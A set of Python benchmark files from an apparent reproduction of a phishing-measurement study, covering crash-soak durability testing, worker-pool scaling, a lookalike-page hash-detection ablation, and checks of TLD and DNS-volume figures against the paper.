    def row(self, metric: str, paper, measured) -> None:
        self.lines.append(f"{metric:<52s} paper={paper!s:<18s} measured={measured!s}")
        self.rows.append({"metric": metric, "paper": paper, "measured": measured})

    def metric(self, key: str, value) -> None:
        """Record a raw machine-readable value (JSON output only)."""
        self.metrics[key] = value

    def note(self, text: str) -> None:
        self.lines.append(text)

    def as_dict(self) -> dict:
        return {
            "name": self.name,
            "seed": BENCH_SEED,
            "scale": BENCH_SCALE,
            "rows": self.rows,
            "metrics": self.metrics,
        }

    def flush(self) -> None:
        RESULTS_DIR.mkdir(exist_ok=True)
        path = RESULTS_DIR / f"{self.name}.txt"
        content = "\n".join(self.lines) + "\n"
        path.write_text(content)
        json_path = RESULTS_DIR / f"{self.name}.json"
        json_path.write_text(json.dumps(self.as_dict(), indent=2, default=str) + "\n")
        print("\n" + content)


@pytest.fixture()
def comparison(request):
    writer = ComparisonWriter(request.node.name)
    yield writer
    writer.flush()
