"""Crash soak: SIGKILL the pipeline at seeded record boundaries, repair,
resume — the final export must be byte-identical to never crashing.

Each soak iteration launches the CLI as a subprocess armed with
``REPRO_KILL_AFTER_RECORDS=N`` (a seeded N in 1..8): the process SIGKILLs
*itself* immediately after its N-th durable record append — a
reproducible crash instant at a record boundary, the exact state the
durability layer promises to survive.  After every kill the harness
asserts the checkpoint scans clean (no interior corruption; a torn tail
is tolerated by construction), salvages it with ``fsck --repair``, and
resumes the repaired copy — which gets shot again, >= 25 times per
backend.  A final uninterrupted resume exports the run; the soak passes
only if that export is byte-identical to an uninterrupted baseline on
*both* executors.

The soak is expensive (every kill restarts the CLI and regenerates the
world), so it only runs when ``REPRO_CRASH_SOAK`` is set — CI's
crash-soak job sets it; the default bench sweep skips it.  Also
runnable standalone::

    REPRO_CRASH_SOAK=1 PYTHONPATH=src python benchmarks/bench_crash_soak.py
"""

import argparse
import json
import os
import pathlib
import random
import signal
import subprocess
import sys
import tempfile
import time

import pytest

from repro.cli import main as cli_main
from repro.runner import CheckpointStore

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
RESULTS_PATH = pathlib.Path(__file__).parent / "results" / "bench_crash_soak.json"

MIN_KILLS = 25
EXECUTORS = ("process", "thread")

#: The soak's subject is the storage layer, not corpus size: a slice of
#: the study keeps per-kill relaunch overhead bounded while still
#: leaving hundreds of record boundaries to shoot at.
SOAK_SCALE = float(os.environ.get("REPRO_CRASH_SOAK_SCALE", "0.1"))
SOAK_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

SOAK_ENABLED = bool(os.environ.get("REPRO_CRASH_SOAK"))


def _launch(arguments, kill_after=None, timeout=600):
    """Run the CLI in a subprocess, optionally armed to shoot itself.

    Returns ``(returncode, output)``.  Waits on the *process*, not the
    pipe: after the parent SIGKILLs itself, orphaned process workers
    still hold the stdout pipe open, so ``communicate()`` alone would
    block until they exit.  The whole session group is reaped before
    the output is drained.
    """
    env = dict(os.environ, PYTHONPATH=os.path.join(REPO, "src"))
    env.pop("REPRO_KILL_AFTER_RECORDS", None)
    if kill_after is not None:
        env["REPRO_KILL_AFTER_RECORDS"] = str(kill_after)
    proc = subprocess.Popen(
        [sys.executable, "-m", "repro", *arguments],
        cwd=REPO,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    )
    try:
        proc.wait(timeout=timeout)
    finally:
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    output = proc.communicate(timeout=60)[0]
    return proc.returncode, output


def soak_backend(executor: str, workdir: pathlib.Path, min_kills: int) -> dict:
    """Kill/repair/resume until ``min_kills`` kills, then finish clean."""
    workdir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(f"{SOAK_SEED}:{executor}")
    checkpoint = workdir / "ckpt-0"
    arguments = ["run", "--scale", str(SOAK_SCALE), "--seed", str(SOAK_SEED),
                 "--jobs", "2", "--executor", executor,
                 "--checkpoint", str(checkpoint)]
    kills, kill_points = 0, []
    started = time.perf_counter()
    while kills < min_kills:
        kill_after = rng.randint(1, 8)
        code, output = _launch(arguments, kill_after=kill_after)
        if code == 0:
            break  # corpus exhausted before the kill budget: undersized
        assert code == -signal.SIGKILL, output
        kills += 1

        scan = CheckpointStore(checkpoint).scan()
        assert not scan.corruption, (
            f"[{executor}] kill #{kills} left interior corruption: "
            f"{scan.corruption}")
        kill_points.append(len(scan.indices))

        repaired = workdir / f"ckpt-{kills}"
        assert cli_main(
            ["fsck", str(checkpoint), "--repair", str(repaired)]) == 0, (
            f"[{executor}] fsck --repair failed after kill #{kills}")
        checkpoint = repaired
        arguments = ["resume", str(checkpoint), "--jobs", "2",
                     "--executor", executor]

    export_path = workdir / "final.json"
    code, output = _launch(["resume", str(checkpoint), "--jobs", "2",
                            "--executor", executor,
                            "--export", str(export_path)])
    assert code == 0, f"[{executor}] final resume failed:\n{output}"
    records = json.loads(export_path.read_text())["records"]
    return {
        "executor": executor,
        "kills": kills,
        "repairs": kills,
        "kill_points": kill_points,
        "records": len(records),
        "elapsed_seconds": round(time.perf_counter() - started, 2),
        "export": json.dumps(records),
    }


def run_soak(min_kills: int, workdir: pathlib.Path, executors=EXECUTORS) -> dict:
    baseline_path = workdir / "baseline.json"
    assert cli_main(["run", "--scale", str(SOAK_SCALE),
                     "--seed", str(SOAK_SEED),
                     "--export", str(baseline_path)]) == 0
    baseline = json.dumps(json.loads(baseline_path.read_text())["records"])

    results = {}
    for executor in executors:
        report = soak_backend(executor, workdir / executor, min_kills)
        report["byte_identical"] = report.pop("export") == baseline
        results[executor] = report
    return results


def _check(results: dict, min_kills: int) -> list[str]:
    """The crash-consistency contract; returns violations (empty = pass)."""
    violations = []
    for executor, report in results.items():
        if report["kills"] < min_kills:
            violations.append(
                f"[{executor}] only {report['kills']}/{min_kills} kill "
                f"points (corpus exhausted early — raise REPRO_CRASH_SOAK_SCALE)")
        if not report["byte_identical"]:
            violations.append(
                f"[{executor}] export after {report['kills']} kills differs "
                f"from the uninterrupted baseline")
    return violations


@pytest.mark.skipif(not SOAK_ENABLED,
                    reason="set REPRO_CRASH_SOAK=1 to run the crash soak")
def bench_crash_soak(benchmark, comparison, tmp_path):
    results = run_soak(MIN_KILLS, workdir=tmp_path)
    violations = _check(results, MIN_KILLS)

    comparison.note(f"soak corpus: seed={SOAK_SEED}, scale={SOAK_SCALE} "
                    f"(REPRO_CRASH_SOAK_SCALE); kill_after seeded in 1..8")
    for executor in EXECUTORS:
        report = results[executor]
        comparison.row(f"{executor}: seeded kill points", f">= {MIN_KILLS}",
                       report["kills"])
        comparison.row(f"{executor}: export byte-identical to baseline",
                       True, report["byte_identical"])
        comparison.metric(executor, report)
        comparison.note(
            f"{executor}: {report['kills']} kills / {report['repairs']} "
            f"repairs over {report['records']} records "
            f"in {report['elapsed_seconds']}s")

    assert not violations, "; ".join(violations)

    benchmark.pedantic(
        lambda: soak_backend("thread", tmp_path / "bench-lap", 2),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--min-kills", type=int, default=MIN_KILLS,
                        help=f"kill points per backend (default {MIN_KILLS})")
    parser.add_argument("--executors", default=",".join(EXECUTORS),
                        help="comma-separated backends to soak")
    args = parser.parse_args(argv)
    executors = [name.strip() for name in args.executors.split(",") if name.strip()]

    print(f"crash soak: >= {args.min_kills} kills/backend, "
          f"executors={executors}, seed={SOAK_SEED}, scale={SOAK_SCALE}")
    with tempfile.TemporaryDirectory(prefix="crash-soak-") as scratch:
        results = run_soak(args.min_kills, executors=executors,
                           workdir=pathlib.Path(scratch))

    for executor, report in results.items():
        print(f"  {executor}: {report['kills']} kills / {report['repairs']} "
              f"repairs, {report['records']} records, "
              f"byte_identical={report['byte_identical']}, "
              f"{report['elapsed_seconds']}s")

    violations = _check(results, args.min_kills)
    for violation in violations:
        print(f"  VIOLATION: {violation}")

    RESULTS_PATH.parent.mkdir(exist_ok=True)
    payload = {"name": "bench_crash_soak", "seed": SOAK_SEED,
               "scale": SOAK_SCALE, "min_kills": args.min_kills,
               "metrics": results}
    RESULTS_PATH.write_text(json.dumps(payload, indent=2) + "\n")
    print(f"  results written to {RESULTS_PATH}")
    return 0 if not violations else 1


if __name__ == "__main__":
    sys.exit(main())
