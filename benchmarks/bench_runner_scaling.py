"""Runner scaling: messages/sec through the sharded worker pool.

Measures CorpusRunner throughput over a representative corpus slice at
``jobs`` = 1, 2, 4, 8 for *both* execution backends and verifies the
determinism guarantee: every worker count, on either backend, exports
byte-identical records.

Interpretation note: the analysis pipeline is pure CPython, so the GIL
serializes the *thread* backend — thread sharding buys resilience,
bounded memory, and checkpointing rather than raw speedup on a stock
interpreter.  The *process* backend rebuilds the world per worker from
a picklable :class:`RunnerConfig` and is where ``--jobs N`` actually
scales.  Process measurements prewarm the worker pool first, so timed
runs capture analysis throughput, not corpus regeneration.

Honest reporting on small hosts: a speedup ratio measured with more
workers than schedulable cores is noise, not signal — CI containers
routinely pin the suite to 1–2 cores.  Every ratio is therefore
reported against the *effective* core count (the scheduling affinity
mask, not ``os.cpu_count()``), rows where ``jobs`` exceeds it carry an
explicit ``insufficient-cores`` verdict instead of a misleading
multiplier, and the speedup gate (``REPRO_BENCH_MIN_SPEEDUP``, e.g.
``1.5``) records the exact reason whenever it declines to run.

Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_runner_scaling.py \
        --executor process --jobs 1,4
"""

import argparse
import json
import os
import sys
import time

from repro.core import CrawlerBox
from repro.core.export import export_records
from repro.runner import CorpusRunner, RunnerConfig
from repro.runner.executor import prewarm_process_pool
from repro.runner.pool import effective_cpu_count

JOB_COUNTS = (1, 2, 4, 8)
SAMPLE_SIZE = 120

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

#: Minimum process-backend jobs=4 / jobs=1 throughput ratio to enforce
#: (0 disables the gate; CI sets 1.5 — a generous floor for shared
#: runners).  Never enforced on hosts with < 4 effective cores.
MIN_SPEEDUP = float(os.environ.get("REPRO_BENCH_MIN_SPEEDUP", "0"))

#: Cores the gate needs before a jobs=4 ratio means anything.
_GATE_JOBS = 4


def _make_runner(corpus, executor: str, jobs: int, seed: int, scale: float):
    return CorpusRunner(
        box_factory=lambda worker_id: CrawlerBox.for_world(corpus.world),
        jobs=jobs,
        executor=executor,
        config=RunnerConfig(seed=seed, scale=scale),
    )


def _measure(corpus, sample, executor: str, job_counts, seed: int, scale: float):
    """{jobs: messages/sec} and {jobs: exported-records JSON} per count."""
    throughputs: dict[int, float] = {}
    exports: dict[int, str] = {}
    for jobs in job_counts:
        if executor == "process":
            # Park a ready pool at this exact width so the timed run
            # reuses warm workers instead of paying their world build.
            prewarm_process_pool(RunnerConfig(seed=seed, scale=scale), jobs)
        runner = _make_runner(corpus, executor, jobs, seed, scale)
        started = time.perf_counter()
        result = runner.run(sample)
        elapsed = time.perf_counter() - started
        assert len(result.records) == len(sample)
        assert not result.dead_letters
        throughputs[jobs] = len(result.records) / elapsed
        exports[jobs] = json.dumps(export_records(result.records))
    return throughputs, exports


def _ratio_label(throughputs: dict[int, float], jobs: int, base_jobs: int,
                 cores: int) -> str:
    """A jobs-row annotation: a ratio when it is meaningful, a loud
    ``insufficient-cores`` verdict when the host cannot schedule it."""
    ratio = throughputs[jobs] / throughputs[base_jobs]
    if jobs > cores:
        return (f"insufficient-cores: {cores} effective core(s) cannot "
                f"run {jobs} workers in parallel; ratio suppressed")
    return f"{ratio:.2f}x vs jobs={base_jobs}"


def _speedup_gate(throughputs: dict[int, float], cores: int) -> tuple[bool, str]:
    """(enforced, verdict) for the process backend's jobs=4 ratio.

    The verdict string always states *why* when the gate declines, so a
    green CI run on a throttled runner is distinguishable from a pass.
    """
    if MIN_SPEEDUP <= 0:
        return False, "gate disabled (REPRO_BENCH_MIN_SPEEDUP unset or 0)"
    if cores < _GATE_JOBS:
        return False, (f"insufficient-cores: gate skipped — host exposes "
                       f"{cores} effective core(s) (affinity mask), the "
                       f"jobs={_GATE_JOBS} gate needs >= {_GATE_JOBS}; "
                       f"a ratio measured here would be scheduler noise")
    ratio = throughputs[_GATE_JOBS] / throughputs[1]
    return True, (f"jobs={_GATE_JOBS}/jobs=1 = {ratio:.2f}x "
                  f"(floor {MIN_SPEEDUP:.2f}x): "
                  f"{'pass' if ratio >= MIN_SPEEDUP else 'FAIL'}")


def bench_runner_scaling(benchmark, full_corpus, comparison):
    sample = full_corpus.messages[:SAMPLE_SIZE]
    cores = effective_cpu_count()
    comparison.note(f"effective cores: {cores} (os.cpu_count={os.cpu_count()})")
    comparison.metric("effective_cores", cores)
    comparison.metric("cpu_count", os.cpu_count())

    results = {}
    for executor in ("thread", "process"):
        throughputs, exports = _measure(
            full_corpus, sample, executor, JOB_COUNTS, BENCH_SEED, BENCH_SCALE)
        results[executor] = (throughputs, exports)

        for jobs in JOB_COUNTS:
            comparison.row(
                f"[{executor}] messages/sec at jobs={jobs}",
                "n/a",
                f"{throughputs[jobs]:.1f} "
                f"({_ratio_label(throughputs, jobs, JOB_COUNTS[0], cores)})",
            )
            comparison.metric(f"{executor}_jobs{jobs}_msgs_per_sec",
                              throughputs[jobs])
        identical = all(exports[jobs] == exports[JOB_COUNTS[0]]
                        for jobs in JOB_COUNTS)
        comparison.row(
            f"[{executor}] records byte-identical across job counts",
            True, identical)
        comparison.metric(f"{executor}_byte_identical", identical)
        comparison.note("")
        assert identical

    # The two backends must agree with each other, not just internally.
    cross = results["thread"][1][JOB_COUNTS[0]] == results["process"][1][JOB_COUNTS[0]]
    comparison.row("thread and process records byte-identical", True, cross)
    comparison.metric("cross_executor_byte_identical", cross)
    assert cross

    enforced, verdict = _speedup_gate(results["process"][0], cores)
    comparison.note(f"process speedup gate: {verdict}")
    comparison.metric("speedup_gate_enforced", enforced)
    comparison.metric("speedup_gate_verdict", verdict)
    comparison.metric("min_speedup_floor", MIN_SPEEDUP)
    if enforced:
        ratio = results["process"][0][_GATE_JOBS] / results["process"][0][1]
        assert ratio >= MIN_SPEEDUP, verdict

    # pytest-benchmark timing for the jobs=4 process configuration.
    benchmark.pedantic(
        lambda: _make_runner(full_corpus, "process", 4,
                             BENCH_SEED, BENCH_SCALE).run(sample),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--executor", choices=("thread", "process"),
                        default="process")
    parser.add_argument("--jobs", default="1,2,4,8",
                        help="comma-separated worker counts (default 1,2,4,8)")
    parser.add_argument("--sample", type=int, default=SAMPLE_SIZE,
                        help=f"messages to analyse (default {SAMPLE_SIZE})")
    parser.add_argument("--json", metavar="PATH", default=None,
                        help="also write the measurements to a JSON file "
                             "(what the CI scaling job archives)")
    args = parser.parse_args(argv)
    job_counts = tuple(int(part) for part in args.jobs.split(","))

    from repro.dataset import CorpusGenerator

    cores = effective_cpu_count()
    print(f"Generating corpus (seed={BENCH_SEED}, scale={BENCH_SCALE}) ...")
    corpus = CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()
    sample = corpus.messages[:args.sample]
    print(f"  {len(sample)} messages, executor={args.executor}, "
          f"jobs={job_counts}, effective cores={cores} "
          f"(os.cpu_count={os.cpu_count()})")

    throughputs, exports = _measure(
        corpus, sample, args.executor, job_counts, BENCH_SEED, BENCH_SCALE)
    for jobs in job_counts:
        print(f"  jobs={jobs}: {throughputs[jobs]:.1f} msgs/sec "
              f"({_ratio_label(throughputs, jobs, job_counts[0], cores)})")
    identical = all(exports[jobs] == exports[job_counts[0]]
                    for jobs in job_counts)
    print(f"  records byte-identical across job counts = {identical}")

    enforced = False
    verdict = ("gate not applicable (needs --executor process with jobs "
               f"1 and {_GATE_JOBS} measured)")
    if args.executor == "process" and 1 in job_counts and _GATE_JOBS in job_counts:
        enforced, verdict = _speedup_gate(throughputs, cores)
        print(f"  speedup gate: {verdict}")

    if args.json:
        report = {
            "executor": args.executor,
            "sample": len(sample),
            "seed": BENCH_SEED,
            "scale": BENCH_SCALE,
            "effective_cores": cores,
            "cpu_count": os.cpu_count(),
            "throughputs_msgs_per_sec": {
                str(jobs): throughputs[jobs] for jobs in job_counts
            },
            "byte_identical": identical,
            "speedup_gate": {
                "enforced": enforced,
                "verdict": verdict,
                "floor": MIN_SPEEDUP,
            },
        }
        os.makedirs(os.path.dirname(os.path.abspath(args.json)), exist_ok=True)
        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump(report, handle, indent=2, sort_keys=True)
            handle.write("\n")
        print(f"  wrote {args.json}")

    if not identical:
        return 1
    if enforced and throughputs[_GATE_JOBS] / throughputs[1] < MIN_SPEEDUP:
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
