"""Runner scaling: messages/sec through the sharded worker pool.

Measures CorpusRunner throughput over a representative corpus slice at
``jobs`` = 1, 2, 4, 8 for *both* execution backends and verifies the
determinism guarantee: every worker count, on either backend, exports
byte-identical records.

Interpretation note: the analysis pipeline is pure CPython, so the GIL
serializes the *thread* backend — thread sharding buys resilience,
bounded memory, and checkpointing rather than raw speedup on a stock
interpreter.  The *process* backend rebuilds the world per worker from
a picklable :class:`RunnerConfig` and is where ``--jobs N`` actually
scales.  Set ``REPRO_BENCH_MIN_SPEEDUP`` (e.g. ``1.5``) to fail the
bench when the process backend's jobs=4 throughput falls below that
multiple of jobs=1; the gate auto-skips on hosts with < 4 CPUs.

Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_runner_scaling.py \
        --executor process --jobs 1,4
"""

import argparse
import json
import os
import sys
import time

from repro.core import CrawlerBox
from repro.core.export import export_records
from repro.runner import CorpusRunner, RunnerConfig

JOB_COUNTS = (1, 2, 4, 8)
SAMPLE_SIZE = 120

BENCH_SCALE = float(os.environ.get("REPRO_BENCH_SCALE", "1.0"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "2024"))

#: Minimum process-backend jobs=4 / jobs=1 throughput ratio to enforce
#: (0 disables the gate; CI sets 1.5 — a generous floor for shared
#: runners).  Never enforced on hosts with fewer than 4 CPUs.
MIN_SPEEDUP = float(os.environ.get("REPRO_BENCH_MIN_SPEEDUP", "0"))


def _make_runner(corpus, executor: str, jobs: int, seed: int, scale: float):
    return CorpusRunner(
        box_factory=lambda worker_id: CrawlerBox.for_world(corpus.world),
        jobs=jobs,
        executor=executor,
        config=RunnerConfig(seed=seed, scale=scale),
    )


def _measure(corpus, sample, executor: str, job_counts, seed: int, scale: float):
    """{jobs: messages/sec} and {jobs: exported-records JSON} per count."""
    throughputs: dict[int, float] = {}
    exports: dict[int, str] = {}
    for jobs in job_counts:
        runner = _make_runner(corpus, executor, jobs, seed, scale)
        started = time.perf_counter()
        result = runner.run(sample)
        elapsed = time.perf_counter() - started
        assert len(result.records) == len(sample)
        assert not result.dead_letters
        throughputs[jobs] = len(result.records) / elapsed
        exports[jobs] = json.dumps(export_records(result.records))
    return throughputs, exports


def _speedup_gate(throughputs: dict[int, float]) -> tuple[bool, str]:
    """(enforced, verdict) for the process backend's jobs=4 ratio."""
    if MIN_SPEEDUP <= 0:
        return False, "gate disabled (REPRO_BENCH_MIN_SPEEDUP unset)"
    cpus = os.cpu_count() or 1
    if cpus < 4:
        return False, f"gate skipped (host has {cpus} CPU(s), need >= 4)"
    ratio = throughputs[4] / throughputs[1]
    return True, (f"jobs=4/jobs=1 = {ratio:.2f}x "
                  f"(floor {MIN_SPEEDUP:.2f}x): "
                  f"{'pass' if ratio >= MIN_SPEEDUP else 'FAIL'}")


def bench_runner_scaling(benchmark, full_corpus, comparison):
    sample = full_corpus.messages[:SAMPLE_SIZE]
    results = {}
    for executor in ("thread", "process"):
        throughputs, exports = _measure(
            full_corpus, sample, executor, JOB_COUNTS, BENCH_SEED, BENCH_SCALE)
        results[executor] = (throughputs, exports)

        base = throughputs[JOB_COUNTS[0]]
        for jobs in JOB_COUNTS:
            comparison.row(
                f"[{executor}] messages/sec at jobs={jobs}",
                "n/a",
                f"{throughputs[jobs]:.1f} ({throughputs[jobs] / base:.2f}x)",
            )
            comparison.metric(f"{executor}_jobs{jobs}_msgs_per_sec",
                              throughputs[jobs])
        identical = all(exports[jobs] == exports[JOB_COUNTS[0]]
                        for jobs in JOB_COUNTS)
        comparison.row(
            f"[{executor}] records byte-identical across job counts",
            True, identical)
        comparison.metric(f"{executor}_byte_identical", identical)
        comparison.note("")
        assert identical

    # The two backends must agree with each other, not just internally.
    cross = results["thread"][1][JOB_COUNTS[0]] == results["process"][1][JOB_COUNTS[0]]
    comparison.row("thread and process records byte-identical", True, cross)
    comparison.metric("cross_executor_byte_identical", cross)
    assert cross

    enforced, verdict = _speedup_gate(results["process"][0])
    comparison.note(f"process speedup gate: {verdict}")
    comparison.metric("speedup_gate_enforced", enforced)
    comparison.metric("speedup_gate_verdict", verdict)
    comparison.metric("min_speedup_floor", MIN_SPEEDUP)
    comparison.metric("cpu_count", os.cpu_count())
    if enforced:
        ratio = results["process"][0][4] / results["process"][0][1]
        assert ratio >= MIN_SPEEDUP, verdict

    # pytest-benchmark timing for the jobs=4 process configuration.
    benchmark.pedantic(
        lambda: _make_runner(full_corpus, "process", 4,
                             BENCH_SEED, BENCH_SCALE).run(sample),
        rounds=1, iterations=1)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--executor", choices=("thread", "process"),
                        default="process")
    parser.add_argument("--jobs", default="1,2,4,8",
                        help="comma-separated worker counts (default 1,2,4,8)")
    parser.add_argument("--sample", type=int, default=SAMPLE_SIZE,
                        help=f"messages to analyse (default {SAMPLE_SIZE})")
    args = parser.parse_args(argv)
    job_counts = tuple(int(part) for part in args.jobs.split(","))

    from repro.dataset import CorpusGenerator

    print(f"Generating corpus (seed={BENCH_SEED}, scale={BENCH_SCALE}) ...")
    corpus = CorpusGenerator(seed=BENCH_SEED, scale=BENCH_SCALE).generate()
    sample = corpus.messages[:args.sample]
    print(f"  {len(sample)} messages, executor={args.executor}, "
          f"jobs={job_counts}")

    throughputs, exports = _measure(
        corpus, sample, args.executor, job_counts, BENCH_SEED, BENCH_SCALE)
    base = throughputs[job_counts[0]]
    for jobs in job_counts:
        print(f"  jobs={jobs}: {throughputs[jobs]:.1f} msgs/sec "
              f"({throughputs[jobs] / base:.2f}x)")
    identical = all(exports[jobs] == exports[job_counts[0]]
                    for jobs in job_counts)
    print(f"  records byte-identical across job counts = {identical}")
    if not identical:
        return 1
    if args.executor == "process" and 1 in job_counts and 4 in job_counts:
        enforced, verdict = _speedup_gate(throughputs)
        print(f"  speedup gate: {verdict}")
        if enforced and throughputs[4] / throughputs[1] < MIN_SPEEDUP:
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
