"""Runner scaling: messages/sec through the sharded worker pool.

Measures CorpusRunner throughput over a representative corpus slice at
``jobs`` = 1, 2, 4, 8 and verifies the determinism guarantee (every
worker count exports byte-identical records).

Interpretation note: the analysis pipeline is pure CPython, so the GIL
serializes the compute — thread sharding buys resilience, bounded
memory, and checkpointing rather than raw speedup on a stock
interpreter.  The sharded layout is what free-threaded builds (or a
future process pool) need to scale; the bench records whatever the
host interpreter delivers.
"""

import json
import time

from repro.core import CrawlerBox
from repro.core.export import export_records
from repro.runner import CorpusRunner

JOB_COUNTS = (1, 2, 4, 8)
SAMPLE_SIZE = 120


def bench_runner_scaling(benchmark, full_corpus, comparison):
    sample = full_corpus.messages[:SAMPLE_SIZE]

    def run_with(jobs: int):
        runner = CorpusRunner(
            box_factory=lambda worker_id: CrawlerBox.for_world(full_corpus.world),
            jobs=jobs,
        )
        return runner.run(sample)

    throughputs: dict[int, float] = {}
    exports: dict[int, str] = {}
    for jobs in JOB_COUNTS:
        started = time.perf_counter()
        result = run_with(jobs)
        elapsed = time.perf_counter() - started
        throughputs[jobs] = len(result.records) / elapsed
        exports[jobs] = json.dumps(export_records(result.records))
        assert len(result.records) == len(sample)
        assert not result.dead_letters

    # pytest-benchmark timing for the jobs=4 configuration.
    benchmark.pedantic(run_with, args=(4,), rounds=1, iterations=1)

    base = throughputs[JOB_COUNTS[0]]
    for jobs in JOB_COUNTS:
        comparison.row(
            f"messages/sec at jobs={jobs}",
            "n/a",
            f"{throughputs[jobs]:.1f} ({throughputs[jobs] / base:.2f}x)",
        )
    comparison.note("")
    identical = all(exports[jobs] == exports[1] for jobs in JOB_COUNTS)
    comparison.row("records byte-identical across job counts", True, identical)
    assert identical
