"""Ablation: combined pHash+dHash vs either hash alone.

The paper: "The combination of both hashes proved to result in better
performance in identifying fake lookalike login pages."  We measure
false positives of single-hash matching against a pool of non-lookalike
pages, at the same threshold.
"""

import random

from repro.browser.render import render_visual
from repro.core.spearphish import SpearPhishClassifier
from repro.imaging.effects import add_gaussian_noise, hue_rotate
from repro.kits.brands import COMPANY_BRANDS
from repro.web.site import VisualSpec


def _build_classifier():
    classifier = SpearPhishClassifier(threshold=10)
    for brand in COMPANY_BRANDS:
        classifier.add_reference(brand.name, render_visual(brand.spec))
    return classifier


def _clones(rng):
    clones = []
    for brand in COMPANY_BRANDS:
        for noise in (0.0, 6.0):
            image = render_visual(brand.spec, overlay_text="victim@corp.example")
            if noise:
                image = add_gaussian_noise(image, noise, rng)
            clones.append((brand.name, image))
        clones.append((brand.name, hue_rotate(render_visual(brand.spec), 4.0)))
    return clones


def _distractors():
    pages = []
    for variant in range(12):
        pages.append(
            render_visual(
                VisualSpec(
                    brand=f"Distractor{variant}",
                    title="Welcome back",
                    header_color=((37 * variant) % 255, 90, 140),
                    button_color=(40, (53 * variant) % 255, 90),
                    fields=("USERNAME", "PASSWORD") if variant % 2 else ("EMAIL",),
                    layout_variant=variant,
                    logo_text=f"D{variant}",
                )
            )
        )
    return pages


def bench_ablation_fuzzy_hash(benchmark, comparison):
    classifier = _build_classifier()
    clones = _clones(random.Random(5))
    distractors = _distractors()

    def evaluate():
        scores = {}
        for mode in ("combined", "phash", "dhash"):
            true_positive = false_positive = 0
            for brand, image in clones:
                match = (
                    classifier.match(image)
                    if mode == "combined"
                    else classifier.match_with_single_hash(image, mode)
                )
                true_positive += match is not None and match.brand == brand
            for image in distractors:
                match = (
                    classifier.match(image)
                    if mode == "combined"
                    else classifier.match_with_single_hash(image, mode)
                )
                false_positive += match is not None
            scores[mode] = (true_positive, false_positive)
        return scores

    scores = benchmark(evaluate)
    n_clones, n_distractors = len(clones), len(distractors)
    for mode, (tp, fp) in scores.items():
        comparison.row(
            f"{mode}: clone recall / distractor false positives",
            "combination performs best",
            f"{tp}/{n_clones} recall, {fp}/{n_distractors} FP",
        )
    combined_tp, combined_fp = scores["combined"]
    assert combined_tp == n_clones
    assert combined_fp <= min(scores["phash"][1], scores["dhash"][1])
    assert combined_fp < max(scores["phash"][1], scores["dhash"][1]) or combined_fp == 0
