"""Table II: phishing landing domains per TLD."""

from repro.analysis.figures import table2


def bench_table2_tld_distribution(benchmark, full_records, comparison, calibration):
    table = benchmark(table2, full_records)
    comparison.row("distinct landing domains", calibration.distinct_landing_domains, table.total_domains)
    measured = dict(table.rows)
    for tld, paper_count in calibration.tld_distribution:
        comparison.row(f"domains under {tld}", paper_count, measured.get(tld, 0))
    top_two = [tld for tld, _ in table.rows[:2]]
    comparison.row("two most common TLDs", "['.com', '.ru']", top_two)
    assert table.rows[0][0] == ".com"
    assert top_two[1] == ".ru" or measured.get(".ru", 0) >= sorted(measured.values(), reverse=True)[2]
