"""Section V-A: Umbrella-style DNS query volumes for landing domains."""

from repro.analysis.dnsvolume import dns_volume_summary


def bench_sec5a_dns_volumes(benchmark, full_corpus, full_records, comparison, calibration):
    summary = benchmark(dns_volume_summary, full_records, full_corpus.world.passive_dns)
    comparison.row("single-message domains: median max queries/day", 18.5, summary.single_median_max_daily)
    comparison.row("single-message domains: median 30-day total", 43.0, summary.single_median_total)
    comparison.row("multi-message domains: median max queries/day", 50.5, summary.multi_median_max_daily)
    comparison.row("multi-message domains: median 30-day total", 100.5, summary.multi_median_total)
    top = summary.top_domains
    comparison.row("top-volume domain 30-day total", calibration.dns_top_domain_total, top[0][2] if top else 0)
    comparison.row("  its reported-message count", "58 (the most-reported domain)", top[0][1] if top else 0)
    if len(top) > 1:
        comparison.row("second-highest volume", f"{calibration.dns_second_total} (5 messages)",
                       f"{top[1][2]} ({top[1][1]} messages)")
    if len(top) > 2:
        comparison.row("third-highest volume", f"{calibration.dns_third_total} (1 message)",
                       f"{top[2][2]} ({top[2][1]} messages)")
    assert summary.multi_median_total > summary.single_median_total
    assert top[0][2] > 10**6


def bench_sec5a_domain_syntax(benchmark, full_corpus, full_records, comparison, calibration):
    """Deceptive-technique prevalence over the landing domains."""
    from repro.analysis.figures import section5a_spear

    summary = benchmark(section5a_spear, full_records, full_corpus.world)
    syntax = summary.domain_syntax
    comparison.row("domains using deceptive techniques",
                   f"{calibration.deceptive_domains_total}/522 (15.7%)",
                   f"{syntax.deceptive}/{syntax.total_domains} ({100 * syntax.deceptive_fraction:.1f}%)")
    comparison.row("punycode domains", 0, syntax.punycode)
    comparison.note("")
    comparison.note("by technique (the paper does not give a per-technique split):")
    for technique, count in syntax.by_technique:
        comparison.note(f"  {technique}: {count}")
    assert syntax.punycode == 0
    assert syntax.deceptive_fraction < 0.25  # "most ... do not use any of these tricks"
