"""Section V-C.1: the faulty-QR email-filter bug.

The paper tested three leading commercial email security tools against
QR codes whose payload carries garbage before the URL; two of three
failed to extract the link (April 2024).  The three modeled filters
differ exactly where real products did: URL-syntax strictness and
whether images are scanned at all.
"""

import random

from repro.kits.credential import CredentialKit, CredentialKitOptions
